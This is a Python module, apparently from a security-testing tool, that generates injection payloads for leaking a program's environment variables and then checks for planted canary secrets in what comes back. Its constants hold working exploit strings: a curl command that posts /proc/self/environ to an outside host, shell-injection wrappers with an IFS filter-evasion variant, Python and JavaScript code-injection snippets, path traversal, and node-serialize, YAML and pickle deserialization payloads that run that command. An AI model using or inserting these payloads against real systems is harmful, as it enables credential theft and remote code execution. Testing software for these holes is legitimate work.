"""Texts that make a function hand over its environment, and where an outsider then finds it."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

    from goatherd.attack.oracles.api import Opportunity
    from goatherd.attack.trace import Trace
    from goatherd.sandbox.canaries import Canaries, Canary

PLACES = ("shell", "code", "path", "deserialize", "yaml", "pickle")
_SECRET = frozenset({"environment", "credentials", "secret"})
_ENVIRONMENT = "/proc/self/environ"
_SEND = f"curl -s --data-binary @{_ENVIRONMENT} http://{{host}}/"
# {} is the command; around it what ends the command before, and what takes the rest away
_SHELL = (";{};", ";{} #", "$({})", "|{}|", "'; {}; '", '"; {}; "', "`{}`", "\n{}\n")
_SPELLED = (_SEND, _SEND.replace(" ", "${{IFS}}"), "env")
_UP = "../" * 12
_PATHS = (_ENVIRONMENT, _UP + _ENVIRONMENT[1:], "/" + _UP + _ENVIRONMENT[1:])
_JAVASCRIPT = ("require('child_process').execSync('{send}')", "JSON.stringify(process.env)")
_PYTHON = ("__import__('os').system('{send}')", "str(dict(__import__('os').environ))")
_AROUND = ("{}", "'+{}+'", '"+{}+"', "${{{}}}", ");{};(", "';{}//", '";{}//', "';{}#", "\n{}\n")
_SERIALIZED = "_$$ND_FUNC$$_function(){{require('child_process').execSync('{send}')}}()"


def payloads(opportunity: Opportunity, host: str) -> Iterator[object]:
    """Values that bring the environment into the answer, or to `host`."""
    send = _SEND.format(host=host)
    place = opportunity.place
    if place == "shell":
        commands = [spelled.format(host=host) for spelled in _SPELLED]
        yield from (opportunity.mark + around.format(command) for command in commands for around in _SHELL)
    elif place == "code":
        spelled = _PYTHON if opportunity.language == "python" else _JAVASCRIPT
        yield from (around.format(code.format(send=send)) for code in spelled for around in _AROUND)
    elif place == "path":
        yield from _PATHS
    elif place == "deserialize":
        function = _SERIALIZED.format(send=send)
        yield json.dumps({"goatherd": function})
        yield function
    elif place == "yaml" and not opportunity.note.get("safe"):  # what is let through there may run elsewhere
        yield f'!!python/object/apply:os.system ["{send}"]'
    elif place == "pickle":
        yield f"cposix\nsystem\n(S'{send}'\ntR."


def seen(trace: Trace, host: str = "") -> str:
    """Everything that comes back to the outsider; `host` is a server of theirs."""
    found = [trace.reply.text] if trace.reply else []
    found += trace.fetched.values()
    for _, record in trace.records("outside"):
        if host and record["host"] == host:
            found += [record["path"], record["query"], record["body"], *record["headers"].values()]
    return "\n".join(found)


def secrets_in(text: str, canaries: Canaries) -> list[Canary]:
    """The secrets that stand in a text."""
    return [canary for canary in canaries.in_text(text) if canary.kind in _SECRET and _is_random(canary.text)]


def _is_random(text: str) -> bool:
    """Not a word that may stand anywhere: variables of a template are taken as they are written."""
    return len(text) > 7 and not text.isalpha()
